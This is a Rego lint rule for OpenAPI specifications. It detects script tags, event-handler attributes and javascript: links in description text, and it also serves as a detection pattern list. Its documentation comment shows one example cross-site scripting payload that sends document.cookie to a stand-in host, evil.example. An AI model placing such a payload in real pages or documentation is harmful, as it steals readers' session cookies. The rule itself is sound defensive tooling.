# METADATA
# title: Descriptions contain no scripts
# description: |
#   No title, summary or description contains a `<script>` tag, an HTML
#   event handler attribute (`<img onerror=...>`) or a `javascript:` link.
#   Descriptions are Markdown that documentation portals render as HTML;
#   many allow inline HTML, so such text runs in the browser of everyone
#   who reads the API's documentation (cross-site scripting), and
#   descriptions are often assembled from sources that nobody reviews as
#   code.
#
#   The prose of the info object, tags, servers, operations, parameters,
#   request bodies, responses, headers, schemas, security schemes and
#   examples is checked, without regard to case. The rule reports on the
#   text, saying what it found.
#
#   ```yaml
#   description: |
#     Returns a pet. <script>fetch('https://evil.example/'+document.cookie)</script>  # bad
#   ```
# custom:
#   category: Documentation
#   maturity: Baseline
#   severity: warn
#   family: correctness
#   formats: [oas2, oas3]
#   peers: ["spectral:no-script-tags-in-markdown", "vacuum:no-script-tags-in-markdown", "redocly:no-unsafe-markdown"]
#   howToFix: |
#     Remove the HTML from the text. Describe code in words or in a fenced
#     code block, and link with plain Markdown links to https URLs.
package specgate.rules["no-unsafe-markdown"]

import data.specgate.lib.correctness
import data.specgate.lib.util

violations contains util.violation(path, msg) if {
	some [path, text] in correctness.risky_texts
	some [pattern, what] in _patterns
	regex.match(pattern, text)
	msg := sprintf("the %s contains %s, which runs as script where descriptions are rendered as HTML", [path[count(path) - 1], what])
}


_patterns := [
	[`(?i)<script\b`, "a <script> tag"],
	[`(?i)<[a-z][^>]*\bon[a-z]+\s*=`, "an HTML event handler attribute"],
	[`(?i)(\]\(\s*|\b(href|src)\s*=\s*["']?\s*)javascript:`, "a javascript: link"],
]
